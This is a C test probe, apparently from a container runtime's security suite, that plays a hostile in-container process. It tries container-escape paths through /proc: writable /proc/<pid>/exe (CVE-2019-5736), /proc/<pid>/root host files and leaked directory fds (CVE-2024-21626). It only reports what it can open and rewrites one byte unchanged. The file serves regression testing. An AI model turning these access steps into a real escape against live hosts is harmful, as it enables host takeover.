/*
 * attacker.c: what a hostile process inside a container does to reach host files through
 * /proc (CVE-2019-5736 and its relatives).  Built static by tests/security/conftest.py and
 * copied into the container's rootfs.  It never changes content: a successful open for
 * writing is reported, and the only write is a byte rewritten with its own value.
 *
 *   attacker SECONDS [HOST_PATH...]
 *
 * Until SECONDS have passed, over every /proc/<pid> but its own, it:
 *   - reads /proc/<pid>/exe and reports each new (pid, target) as "SEEN pid target";
 *   - opens /proc/<pid>/exe for writing ("OPEN-EXE pid target" on success), and keeps an
 *     O_PATH handle to it, reopened for writing through /proc/self/fd later ("REOPEN-EXE");
 *     each time an open succeeds it rewrites the file's first byte with itself (content
 *     unchanged): "WROTE pid target" if that went through, "WRITE-FAILED pid target errno"
 *     if not (a sealed memfd opens, but refuses writes);
 *   - opens /proc/<pid>/root/HOST_PATH O_WRONLY ("OPEN-ROOT pid path" on success): a
 *     process whose root is still the host's would hand over host files;
 *   - opens every /proc/<pid>/fd/N O_WRONLY ("OPEN-FD pid n target" on success), and as a
 *     directory ("OPEN-DIR pid n target": a runtime's directory fd leads out of the root).
 * At the end it prints "DONE rounds=R seen=S".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_SEEN 4096
#define MAX_HELD 256

static struct { int pid; char target[256]; } seen[MAX_SEEN];
static int nseen;
static struct { int fd, pid, opened; char target[256]; } held[MAX_HELD];
static int nheld;

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *fmt, ...)
{
    char buf[1024];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof(buf) - 1, fmt, ap);
    va_end(ap);
    if (n > (int)sizeof(buf) - 2)
        n = sizeof(buf) - 2;
    buf[n++] = '\n';
    if (write(1, buf, n) < 0) {
    }
}

static void note_seen(int pid, const char *target)
{
    for (int i = 0; i < nseen; i++)
        if (seen[i].pid == pid && !strcmp(seen[i].target, target))
            return;
    if (nseen < MAX_SEEN) {
        seen[nseen].pid = pid;
        snprintf(seen[nseen].target, sizeof(seen[nseen].target), "%s", target);
        nseen++;
    }
    say("SEEN %d %s", pid, target);
}

/* Open path for writing; on success report kind, then rewrite byte 0 with itself. */
static int try_write(const char *path, const char *kind, int pid, const char *target)
{
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0)
        fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    say("%s %d %s", kind, pid, target);
    char c;
    if (pread(fd, &c, 1, 0) == 1) {
        if (pwrite(fd, &c, 1, 0) == 1)
            say("WROTE %d %s", pid, target);
        else
            say("WRITE-FAILED %d %s %d", pid, target, errno);
    }
    close(fd);
    return 1;
}

static void attack(int pid, int nhost, char **host)
{
    char path[512], target[256];
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    ssize_t n = readlink(path, target, sizeof(target) - 1);
    if (n >= 0) {
        target[n] = 0;
        note_seen(pid, target);
    } else {
        snprintf(target, sizeof(target), "?");
    }
    try_write(path, "OPEN-EXE", pid, target);
    int fd;
    if (nheld < MAX_HELD) {
        fd = open(path, O_PATH | O_CLOEXEC);
        if (fd >= 0) {
            held[nheld].fd = fd;
            held[nheld].pid = pid;
            held[nheld].opened = 0;
            snprintf(held[nheld].target, sizeof(held[nheld].target), "%s", target);
            nheld++;
        }
    }
    for (int i = 0; i < nhost; i++) {
        snprintf(path, sizeof(path), "/proc/%d/root%s", pid, host[i]);
        fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd >= 0) {
            say("OPEN-ROOT %d %s", pid, host[i]);
            close(fd);
        }
    }
    snprintf(path, sizeof(path), "/proc/%d/fd", pid);
    DIR *d = opendir(path);
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.')
            continue;
        char fdpath[600];
        snprintf(fdpath, sizeof(fdpath), "/proc/%d/fd/%s", pid, e->d_name);
        n = readlink(fdpath, target, sizeof(target) - 1);
        target[n >= 0 ? n : 0] = 0;
        fd = open(fdpath, O_WRONLY | O_APPEND | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
        if (fd >= 0) {
            say("OPEN-FD %d %s %s", pid, e->d_name, target);
            close(fd);
        }
        /* a directory fd is a way out too (openat(fd, "../..")): CVE-2024-21626 */
        fd = open(fdpath, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (fd >= 0) {
            say("OPEN-DIR %d %s %s", pid, e->d_name, target);
            close(fd);
        }
    }
    closedir(d);
}

static void reopen_held(void)
{
    char path[64];
    for (int i = 0; i < nheld; i++) {
        snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
        if (!held[i].opened)  /* report each handle once */
            held[i].opened = try_write(path, "REOPEN-EXE", held[i].pid, held[i].target);
    }
    /* keep the newest handles: the runtime's processes come and go */
    if (nheld == MAX_HELD) {
        for (int i = 0; i < MAX_HELD / 2; i++)
            close(held[i].fd);
        memmove(held, held + MAX_HELD / 2, sizeof(held[0]) * (MAX_HELD / 2));
        nheld = MAX_HELD / 2;
    }
}

int main(int argc, char **argv)
{
    if (argc < 2)
        return 2;
    double deadline = now() + atof(argv[1]);
    int me = getpid();
    long rounds = 0;
    say("READY %d", me);
    while (now() < deadline) {
        DIR *d = opendir("/proc");
        if (!d)
            return 3;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid > 0 && pid != me)
                attack(pid, argc - 2, argv + 2);
        }
        closedir(d);
        reopen_held();
        rounds++;
    }
    say("DONE rounds=%ld seen=%d", rounds, nseen);
    return 0;
}
